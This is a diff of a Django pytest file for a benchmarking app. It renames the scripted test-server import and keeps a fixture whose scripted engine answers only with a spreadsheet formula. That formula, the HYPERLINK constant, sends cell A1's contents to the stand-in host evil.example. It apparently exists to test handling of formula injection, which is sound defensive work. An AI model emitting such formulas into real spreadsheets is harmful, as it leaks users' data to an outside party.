@@ -14,9 +14,10 @@ from django.contrib.auth.models import User
 from django.core.management import call_command
 from django.test import Client
 
-from bench import kinds, scripted_server, services
+from bench import kinds, services
 from bench.kinds.speed import SpeedConfig
 from bench.models import BenchJob
+from labapp.ops import scripted
 
 ROOT = Path(__file__).resolve().parents[2]
 SMALL = SpeedConfig(repeats=1, shapes=((20, 4),), check=(40, 6), seed=5)
@@ -27,7 +28,7 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"details")'
 def formula_engine(monkeypatch: pytest.MonkeyPatch) -> Iterator[str]:
     """A scripted engine whose every answer is a spreadsheet formula."""
     monkeypatch.setattr(kinds, "config_for", lambda kind, raw, **options: SMALL)
-    with scripted_server.serve(scripted_server.Script(pieces=[HYPERLINK], delay_s=0.001)) as url:
+    with scripted.serve(scripted.Script(pieces=[HYPERLINK], delay_s=0.001)) as url:
         yield url
 
 
